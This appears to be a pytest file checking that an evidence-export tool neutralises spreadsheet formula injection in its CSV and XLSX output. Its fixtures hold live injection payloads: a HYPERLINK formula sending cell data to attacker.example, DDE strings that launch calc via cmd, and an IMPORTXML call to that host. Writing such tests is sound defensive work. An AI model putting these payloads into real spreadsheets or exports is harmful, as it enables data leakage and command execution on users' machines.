"""Formula injection (issue 12, finding 7): a title starting with ``=`` must not become a formula.

CSV: text cells starting with ``=``, ``+``, ``-``, ``@``, tab, CR or LF get a leading ``'``.
XLSX: every string is a string cell (never a formula), the triggered ones with the quote prefix.
Numbers stay numbers; JSON and Parquet keep the original text. The files are read back raw (the
``csv`` module, openpyxl) so what a spreadsheet would see is what is asserted.
"""

from __future__ import annotations

import csv
import dataclasses
import json
from collections.abc import Iterator
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from itb_evidence.export.formulas import is_formula_like, neutralise_text
from itb_evidence.export.tables import export, write_csv, write_xlsx
from itb_evidence.pubmed.records import Author
from itb_evidence.rows import link_record
from itb_evidence.screen import ScreenDecision
from itb_evidence.store.store import EvidenceStore
from tests.support.factories import make_extraction, make_record

HOSTILE_TITLES = {
    "301": '=HYPERLINK("http://attacker.example/?leak="&A1,"click me")',
    "302": "+1+cmd|' /C calc'!A0",
    "303": "-2+3",
    "304": "@SUM(1+1)*cmd|' /C calc'!A0",
    "305": "\t=1+1 hidden behind a tab",
    "306": "\r=1+1 hidden behind a carriage return",
    "307": "-2",  # a text cell that looks like a number is still text
}
PLAIN_PMID, PLAIN_TITLE = "300", "Intrathecal baclofen in HSP: a plain title."
HOSTILE_AUTHOR = "=cmd"  # reaches the metafor "study" label through the citation


@pytest.fixture
def store(tmp_path: Path) -> Iterator[EvidenceStore]:
    s = EvidenceStore(tmp_path / "e.duckdb")
    run = s.start_run(
        mode="refresh",
        query='=IMPORTXML("http://attacker.example","//a")',
        window_start=None,
        window_end=None,
        extractor_version="test",
    )
    titles = {PLAIN_PMID: PLAIN_TITLE, **HOSTILE_TITLES}
    for pmid, title in titles.items():
        record = dataclasses.replace(make_record(pmid), title=title)
        if pmid == "301":
            record = dataclasses.replace(record, authors=(Author(HOSTILE_AUTHOR, "Eve", "E"),))
        s.upsert_records([record], run_id=run)
        s.write_evidence(
            link_record(
                record,
                make_extraction(pmid),
                ScreenDecision(pmid, True, "ITB study in an HSP population", {}),
            )
        )
    yield s
    s.close()


def _csv_rows(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


@pytest.mark.parametrize("trigger", ["=", "+", "-", "@", "\t", "\r", "\n"])
def test_every_trigger_gets_a_leading_quote(trigger: str) -> None:
    text = f"{trigger}1+1"
    assert is_formula_like(text)
    assert neutralise_text(text) == f"'{text}"


@pytest.mark.parametrize("value", ["Baclofen", " =1", "'=1", "", "1-2", "a=b", -2, -2.5, None])
def test_other_values_are_not_formula_like(value: object) -> None:
    assert not is_formula_like(value)
    if isinstance(value, str):
        assert neutralise_text(value) == value


def test_csv_titles_starting_with_a_trigger_are_quoted(
    store: EvidenceStore, tmp_path: Path
) -> None:
    studies_file, outcomes_file = export(store, fmt="csv", out=tmp_path / "evidence.csv")
    rows = {row["pmid"]: row for row in _csv_rows(studies_file.path)}
    for pmid, title in HOSTILE_TITLES.items():
        assert rows[pmid]["title"] == "'" + title, pmid
    assert rows[PLAIN_PMID]["title"] == PLAIN_TITLE
    assert rows["301"]["citation"].startswith("'" + HOSTILE_AUTHOR)
    # numbers are written as numbers, never quoted
    assert {row["sample_size"] for row in rows.values()} == {"7"}
    assert {row["year"] for row in rows.values()} == {"2020"}
    outcome_rows = _csv_rows(outcomes_file.path)
    assert outcome_rows and all(not is_formula_like(v) for r in outcome_rows for v in r.values())
    assert any(r["p_value"] == "0.046" for r in outcome_rows)
    # no cell anywhere still starts with a trigger
    assert all(not is_formula_like(v) for r in rows.values() for v in r.values())


def test_csv_keeps_numbers_including_negative_ones(tmp_path: Path) -> None:
    tables = {
        "studies": pd.DataFrame(
            {
                "pmid": ["1", "2"],
                "change": [-2.5, 3.0],
                "count": [-4, 5],
                "mixed": pd.Series([-4, "-4"], dtype=object),  # a number and a text cell
                "note": ["-2", "fine"],
            }
        )
    }
    (f,) = write_csv(tables, tmp_path / "t.csv")
    rows = _csv_rows(f.path)
    assert [r["change"] for r in rows] == ["-2.5", "3.0"]
    assert [r["count"] for r in rows] == ["-4", "5"]
    assert [r["mixed"] for r in rows] == ["-4", "'-4"]
    assert [r["note"] for r in rows] == ["'-2", "fine"]
    assert tables["studies"]["note"].tolist() == ["-2", "fine"]  # the caller's frame is untouched


def test_metafor_csv_is_neutralised_too(store: EvidenceStore, tmp_path: Path) -> None:
    (f,) = export(store, fmt="metafor", out=tmp_path / "m.csv")
    rows = _csv_rows(f.path)
    assert rows and all(not is_formula_like(v) for r in rows for v in r.values())
    (hostile,) = [r for r in rows if r["pmid"] == "301"]
    assert hostile["study"].startswith("'" + HOSTILE_AUTHOR)


def _text(value: object) -> object:
    """A cell value as Excel reads it: xlsxwriter stores a CR as the OOXML escape ``_x000D_``,
    which Excel decodes and openpyxl leaves as is."""
    return value.replace("_x000D_", "\r") if isinstance(value, str) else value


def _all_cells(path: Path) -> list[openpyxl.cell.cell.Cell]:
    book = openpyxl.load_workbook(path)
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def test_xlsx_writes_strings_never_formulas(store: EvidenceStore, tmp_path: Path) -> None:
    (f,) = export(store, fmt="xlsx", out=tmp_path / "evidence.xlsx")
    cells = _all_cells(f.path)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []  # no formula anywhere
    triggered = [c for c in cells if is_formula_like(_text(c.value))]
    assert len(triggered) >= len(HOSTILE_TITLES) + 2  # titles, the citation, the README query
    assert all(c.data_type == "s" and c.quotePrefix for c in triggered)
    book = openpyxl.load_workbook(f.path)
    sheet = book["studies"]
    header = [c.value for c in sheet[1]]
    rows = {
        str(r[header.index("pmid")]): dict(zip(header, r, strict=True))
        for r in sheet.iter_rows(min_row=2, values_only=True)
    }
    for pmid, title in HOSTILE_TITLES.items():
        assert _text(rows[pmid]["title"]) == title, pmid  # the exact text, shown as text
    assert rows[PLAIN_PMID]["title"] == PLAIN_TITLE
    assert {rows[p]["sample_size"] for p in rows} == {7}  # numbers are numbers
    title_col = header.index("title") + 1
    plain_row = [str(r[0].value) for r in sheet.iter_rows(min_row=2)].index(PLAIN_PMID) + 2
    assert not sheet.cell(plain_row, title_col).quotePrefix
    readme = {r[0]: r[1] for r in book["README"].iter_rows(min_row=2, values_only=True)}
    assert readme["query"] == '=IMPORTXML("http://attacker.example","//a")'


def test_xlsx_keeps_negative_numbers_as_numbers(tmp_path: Path) -> None:
    tables = {
        "studies": pd.DataFrame(
            {"pmid": ["1"], "change": [-2.5], "mixed": pd.Series([-4], dtype=object)}
        ),
        "outcomes": pd.DataFrame({"pmid": ["1"], "label": ["-2"]}),
    }
    f = write_xlsx(tables, tmp_path / "t.xlsx", {"query": "x"})
    book = openpyxl.load_workbook(f.path)
    change, mixed = book["studies"]["B2"], book["studies"]["C2"]
    assert (change.value, change.data_type, change.quotePrefix) == (-2.5, "n", False)
    assert (mixed.value, mixed.data_type, mixed.quotePrefix) == (-4, "n", False)
    label = book["outcomes"]["B2"]
    assert (label.value, label.data_type, label.quotePrefix) == ("-2", "s", True)


def test_json_and_parquet_keep_the_original_text(store: EvidenceStore, tmp_path: Path) -> None:
    (j,) = export(store, fmt="json", out=tmp_path / "e.json")
    doc = json.loads(j.path.read_text(encoding="utf-8"))
    titles = {row["pmid"]: row["title"] for row in doc["studies"]}
    assert {p: titles[p] for p in HOSTILE_TITLES} == HOSTILE_TITLES
    assert doc["run"]["query"] == '=IMPORTXML("http://attacker.example","//a")'
    files = export(store, fmt="parquet", out=tmp_path / "parquet")
    studies = pd.read_parquet(next(f.path for f in files if f.path.stem == "studies"))
    parquet_titles = dict(zip(studies["pmid"], studies["title"], strict=True))
    assert {p: parquet_titles[p] for p in HOSTILE_TITLES} == HOSTILE_TITLES
